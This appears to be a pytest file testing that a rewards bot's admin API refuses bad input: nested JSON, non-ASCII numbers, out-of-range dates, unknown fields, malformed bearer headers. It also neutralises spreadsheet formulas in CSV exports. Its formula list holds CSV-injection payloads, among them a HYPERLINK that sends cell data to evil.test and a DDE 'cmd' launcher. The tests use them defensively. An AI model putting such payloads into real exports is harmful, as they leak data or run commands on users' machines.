"""Bad input on the admin API and the webhook (issue 11's probes): each gets a clear 4xx, nothing is stored.

CSV cells that a spreadsheet would run as a formula are neutralised; JSON nested too deep, numeric query
parameters that are not plain ASCII digits, dates outside a sane window, unknown PATCH fields and a malformed
Authorization header are refused with the contract's JSON error (the webhook: a plain 400) before any write.
"""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest

from bot.web.api.exports import cell
from linesim.platform import new_user_id
from rewards import keys as rkeys
from tests.support.harness import ADMIN, Bot
from tests.test_admin_api import assert_error, buy, follow, points_of, refer
from tests.test_admin_api_more import audit_length
from tests.test_webhook_hygiene import assert_nothing_stored

SOME = "U" + "c" * 32


def iso(moment: datetime) -> str:
    return moment.isoformat()


PLUMBING = re.compile(rb"^shokai:(events:\{p\d+\}|workers)$|lease")  # there from start-up, whatever is asked


async def stored(bot: Bot) -> list[bytes]:
    """Every key a request could have written (the worker's own streams, leases and heartbeats left out)."""
    return sorted([k async for k in bot.services.redis.scan_iter(match=f"{rkeys.PREFIX}:*")
                   if not PLUMBING.search(k)])


# ---- CSV exports: no live formulas -----------------------------------------------------------
FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tTAB", "\rCR"]


@pytest.mark.parametrize(("value", "written"), [
    *[(f, "'" + f) for f in FORMULAS], ("-50", "'-50"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    ("'=already", "'=already"), (-50, -50), (0, 0), (None, None)])
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_like_a_formula(value: object,
                                                                              written: object) -> None:
    assert cell(value) == written


async def csv_text(bot: Bot, path: str) -> str:
    async with bot.http.get(bot.url + path, headers={"Authorization": f"Bearer {ADMIN}"}) as r:
        assert r.status == 200
        return (await r.read()).decode()


@pytest.mark.parametrize("formula", FORMULAS[:4], ids=["equals", "plus", "minus", "at"])
async def test_a_reason_that_is_a_formula_is_exported_as_text(bot: Bot, formula: str) -> None:
    # (a reason is stripped, so it never starts with a tab or CR: cell() is shown to handle those above)
    uid = new_user_id()
    await follow(bot, uid)
    for points, reason in ((1, formula), (-1, "x" + formula)):
        status, answer = await bot.admin("POST", f"/api/v1/members/{uid}/adjustments",
                                         {"points": points, "reason": reason})
        assert status == 200, answer
    rows = list(csv.DictReader(io.StringIO(await csv_text(bot, "/api/v1/exports/ledger.csv"))))
    notes = [r["note"] for r in rows if r["user_id"] == uid]
    assert "'" + formula in notes and formula not in notes
    assert "x" + formula in notes  # a cell that does not start like a formula is left as it is


async def test_an_order_id_that_is_a_formula_is_exported_as_text_and_numbers_stay_numbers(bot: Bot) -> None:
    uid = new_user_id()
    order = '=HYPERLINK("evil.test","open")'
    await buy(bot, uid, order, 5000)
    status, answer = await bot.admin("POST", f"/api/v1/conversions/{quote(order, safe='')}/refund")
    assert status == 200 and answer["refunded"], answer  # type: ignore[index]
    await bot.admin("POST", f"/api/v1/members/{uid}/adjustments", {"points": -7, "reason": "-7 by hand"})
    rows = [r for r in csv.DictReader(io.StringIO(await csv_text(bot, "/api/v1/exports/ledger.csv")))
            if r["user_id"] == uid]
    for row in rows:
        for name, value in row.items():
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), (name, value)
            if value.startswith("-"):
                assert name in ("delta", "balance"), (name, value)  # our own numbers, written as numbers
    assert "'" + order in {r["note"] for r in rows}
    assert "'-7 by hand" in {r["note"] for r in rows}
    assert [int(r["delta"]) for r in rows][-1] == -7
    assert sum(int(r["delta"]) for r in rows) == await points_of(bot, uid)


# ---- JSON nested too deep --------------------------------------------------------------------
def nested(depth: int) -> bytes:
    return b'{"order_id": ' + b"[" * depth + b"]" * depth + b"}"


@pytest.mark.parametrize("depth", [100, 5_000, 100_000])
@pytest.mark.parametrize(("method", "path"), [
    ("POST", "/api/v1/conversions"), ("PATCH", f"/api/v1/members/{SOME}"), ("POST", "/api/v1/broadcasts"),
    ("POST", f"/api/v1/referrals/{SOME}/approve"), ("POST", f"/api/v1/members/{SOME}/adjustments")])
async def test_deeply_nested_json_on_the_admin_api_is_400(bot: Bot, method: str, path: str, depth: int) -> None:
    headers = {"Authorization": f"Bearer {ADMIN}", "Content-Type": "application/json"}
    async with bot.http.request(method, bot.url + path, data=nested(depth), headers=headers) as r:
        assert_error(r.status, await r.json(), 400, "INVALID_JSON")
    assert await stored(bot) == []


@pytest.mark.parametrize("depth", [100, 5_000, 100_000])
async def test_deeply_nested_signed_webhook_is_400(bot: Bot, depth: int) -> None:
    uid = new_user_id()
    event = json.dumps(bot.platform.follow(uid))[:-1] + ', "x": ' + "[" * depth + "]" * depth + "}"
    body = b'{"destination": "U0", "events": [' + event.encode() + b"]}"
    assert await bot.platform.send_raw(body) == 400
    await assert_nothing_stored(bot, uid)


async def test_a_real_webhook_body_is_not_too_deep(bot: Bot) -> None:
    uid = new_user_id()
    assert await bot.platform.send(bot.platform.follow(uid), bot.platform.text(uid, "ヘルプ")) == 200


# ---- numeric query parameters ----------------------------------------------------------------
NOT_NUMBERS = ["²", "１０", "٣", "9" * 5000, "10" + "0" * 30, "+5", "-0", " 5", "5 ", "0x10", "1e3", "5.0"]


@pytest.mark.parametrize("raw", NOT_NUMBERS, ids=lambda v: v if len(v) < 20 else f"{len(v)}-digits")
@pytest.mark.parametrize(("path", "name"), [
    ("/api/v1/stats?days=", "days"), ("/api/v1/broadcasts?limit=", "limit"), ("/api/v1/audit?limit=", "limit"),
    (f"/api/v1/members/{SOME}/ledger?limit=", "limit"), (f"/api/v1/members/{SOME}/ledger?offset=", "offset"),
    ("/api/v1/referrals?status=review&limit=", "limit"), ("/api/v1/referrals?status=review&offset=", "offset")])
async def test_a_numeric_query_parameter_must_be_ascii_digits_in_range(bot: Bot, path: str, name: str,
                                                                        raw: str) -> None:
    status, answer = await bot.admin("GET", path + raw.replace("+", "%2B").replace(" ", "%20"))
    assert_error(status, answer, 400, f"INVALID_{name.upper()}")
    assert name in answer["error"]["message"]  # type: ignore[index]


async def test_plain_numbers_still_work(bot: Bot) -> None:
    for path in ("/api/v1/stats?days=7", "/api/v1/broadcasts?limit=500", "/api/v1/audit?limit=1",
                 "/api/v1/referrals?status=review&offset=0&limit=010"):
        status, answer = await bot.admin("GET", path)
        assert status == 200, (path, answer)


# ---- dates within a sane window --------------------------------------------------------------
def order(when: str, order_id: str = "o-date", user_id: str = SOME) -> dict:
    return {"order_id": order_id, "user_id": user_id, "amount": 5000, "occurred_at": when}


@pytest.mark.parametrize("when", [
    "9999-12-31", "9999-12-31T23:59:59Z", "3000-01-01T00:00:00+09:00", "1970-01-01T00:00:00Z", "1970-01-01",
    "0001-01-01T00:00:00+01:00", "2000-01-01",
    iso(datetime.now(UTC) + timedelta(hours=1)), iso(datetime.now(UTC) - timedelta(days=400)),
], ids=["9999", "9999-z", "3000", "1970", "1970-date", "year-1", "2000", "an-hour-ahead", "400-days-ago"])
async def test_an_occurred_at_outside_the_window_is_400_and_stores_nothing(bot: Bot, when: str) -> None:
    status, answer = await bot.admin("POST", "/api/v1/conversions", order(when))
    assert_error(status, answer, 400, "INVALID_OCCURRED_AT")
    assert await stored(bot) == []


async def test_a_refused_date_leaves_the_person_referable(bot: Bot) -> None:
    a, b = new_user_id(), new_user_id()
    status, _ = await bot.admin("POST", "/api/v1/conversions", order("9999-12-31", user_id=b))
    assert status == 400
    await refer(bot, a, b)
    answer = await buy(bot, b, "o-real", 5000)
    assert answer["referral"] == {"status": "completed"}


@pytest.mark.parametrize("ago", [timedelta(days=365), timedelta(hours=1), timedelta(0), -timedelta(minutes=4)],
                         ids=["a-year-ago", "an-hour-ago", "now", "clock-skew-ahead"])
async def test_an_occurred_at_inside_the_window_is_accepted(bot: Bot, ago: timedelta) -> None:
    uid = new_user_id()
    status, answer = await bot.admin("POST", "/api/v1/conversions",
                                     order(iso(datetime.now(UTC) - ago), user_id=uid))
    assert status == 200, answer
    assert answer["points_awarded"] == 50  # type: ignore[index]


async def test_an_occurred_at_without_offset_is_the_shops_time(bot: Bot) -> None:
    uid = new_user_id()
    shop = bot.services.program.rules.timezone
    local = (datetime.now(shop) - timedelta(minutes=1)).replace(tzinfo=None, microsecond=0)
    status, answer = await bot.admin("POST", "/api/v1/conversions", order(local.isoformat(), user_id=uid))
    assert status == 200, answer
    entry = (await bot.services.program.ledger(uid))[-1]
    assert entry["at"] == int(local.replace(tzinfo=shop).timestamp() * 1000)


@pytest.mark.parametrize("when", ["9999-12-31T00:00:00Z", "1970-01-01T00:00:00Z", "2000-01-01",
                                  iso(datetime.now(UTC) + timedelta(days=400)),
                                  iso(datetime.now(UTC) - timedelta(hours=1))],
                         ids=["9999", "1970", "2000", "400-days-ahead", "an-hour-ago"])
async def test_a_scheduled_at_outside_the_window_is_400_and_stores_nothing(bot: Bot, when: str) -> None:
    status, answer = await bot.admin("POST", "/api/v1/broadcasts", {"text": "hi", "scheduled_at": when})
    assert_error(status, answer, 400, "INVALID_SCHEDULED_AT")
    assert await stored(bot) == []


async def test_a_scheduled_at_a_month_ahead_is_accepted(bot: Bot) -> None:
    status, answer = await bot.admin("POST", "/api/v1/broadcasts",
                                     {"text": "hi", "scheduled_at": iso(datetime.now(UTC) + timedelta(days=30))})
    assert status == 202, answer


@pytest.mark.parametrize("birthday", ["2023-02-29", "0000-12-31", "1800-01-01", "9999-01-01", "12-31\n", "١٢-٣١",
                                      "12-1", 1231],
                         ids=["not-a-leap-year", "year-0", "1800", "9999", "newline", "arabic-digits", "short",
                              "a-number"])
async def test_a_birthday_that_is_not_a_real_date_is_400(bot: Bot, birthday: object) -> None:
    uid = new_user_id()
    await follow(bot, uid)
    before = await audit_length(bot)
    status, answer = await bot.admin("PATCH", f"/api/v1/members/{uid}", {"birthday": birthday})
    assert_error(status, answer, 400, "INVALID_BIRTHDAY")
    assert not await bot.services.redis.hget(rkeys.member(uid), rkeys.field("birthday"))
    assert await audit_length(bot) == before


@pytest.mark.parametrize("birthday", ["2024-02-29", "02-29", "1990-12-31"])
async def test_a_real_birthday_is_accepted(bot: Bot, birthday: str) -> None:
    uid = new_user_id()
    await follow(bot, uid)
    status, answer = await bot.admin("PATCH", f"/api/v1/members/{uid}", {"birthday": birthday})
    assert status == 200 and answer["birthday"] == birthday[-5:], answer  # type: ignore[index]


# ---- strictness: unknown fields, the Authorization header -----------------------------------
async def test_patch_with_an_unknown_field_is_400_and_not_audited(bot: Bot) -> None:
    uid = new_user_id()
    await follow(bot, uid)
    before = await audit_length(bot)
    status, answer = await bot.admin("PATCH", f"/api/v1/members/{uid}",
                                     {"gift_referral_reward": True, "points": 1_000_000, "is_staff": True})
    assert_error(status, answer, 400, "UNKNOWN_FIELD")
    assert "is_staff" in answer["error"]["message"] and "points" in answer["error"]["message"]  # type: ignore[index]
    assert await audit_length(bot) == before
    status, view = await bot.admin("GET", f"/api/v1/members/{uid}")
    assert view["gift_referral_reward"] is False  # type: ignore[index]


async def test_patch_with_one_bad_field_changes_nothing(bot: Bot) -> None:
    uid = new_user_id()
    await follow(bot, uid)
    before = await audit_length(bot)
    status, answer = await bot.admin("PATCH", f"/api/v1/members/{uid}",
                                     {"birthday": "12-31", "gift_referral_reward": "yes"})
    assert_error(status, answer, 400, "INVALID_FIELD")
    assert not await bot.services.redis.hget(rkeys.member(uid), rkeys.field("birthday"))
    assert await audit_length(bot) == before


@pytest.mark.parametrize(("path", "body"), [
    ("/api/v1/conversions", {"order_id": "o-1", "user_id": SOME, "amount": 100, "ocurred_at": "2024-01-01"}),
    ("/api/v1/broadcasts", {"text": "hi", "segmnet": {"tier": ["gold"]}}),
    (f"/api/v1/members/{SOME}/adjustments", {"points": 5, "reason": "x", "note": "y"}),
    ("/api/v1/events", {"user_id": SOME, "name": "review", "event_id": "e-1", "points": 5}),
    ("/api/v1/rewards/coffee/stock", {"add": 5, "limit": 3}),
], ids=["conversion", "broadcast", "adjustment", "event", "stock"])
async def test_every_json_body_refuses_unknown_fields(bot: Bot, path: str, body: dict) -> None:
    status, answer = await bot.admin("POST", path, body)
    assert_error(status, answer, 400, "UNKNOWN_FIELD")
    assert await stored(bot) == []


@pytest.mark.parametrize("header", [f"Bearer  {ADMIN}", f"Bearer {ADMIN} x", f"Bearer\t{ADMIN}", f" Bearer {ADMIN}",
                                    f"Bearer {ADMIN}\t", f"Bearer {ADMIN},Bearer {ADMIN}", f"BearerX {ADMIN}"],
                         ids=["two-spaces", "trailing-word", "tab", "leading-space", "trailing-tab", "two", "scheme"])
async def test_a_malformed_bearer_header_is_401(bot: Bot, header: str) -> None:
    status, answer = await bot.admin("POST", "/api/v1/conversions", {"order_id": "o-1", "user_id": SOME,
                                                                      "amount": 100},
                                     token=None, headers={"Authorization": header})
    if header.strip() == f"Bearer {ADMIN}":  # the HTTP parser strips whitespace around a header's value
        assert status == 200
        return
    assert_error(status, answer, 401, "UNAUTHENTICATED")
    assert await stored(bot) == []


async def test_the_exact_bearer_header_is_accepted(bot: Bot) -> None:
    status, _ = await bot.admin("GET", "/api/v1/stats", token=None, headers={"Authorization": f"Bearer {ADMIN}"})
    assert status == 200


async def test_an_event_id_with_a_trailing_newline_is_400(bot: Bot) -> None:
    status, answer = await bot.admin("POST", "/api/v1/events", {"user_id": SOME, "name": "review",
                                                                 "event_id": "e-1\n"})
    assert_error(status, answer, 400, "INVALID_EVENT_ID")
    assert await stored(bot) == []
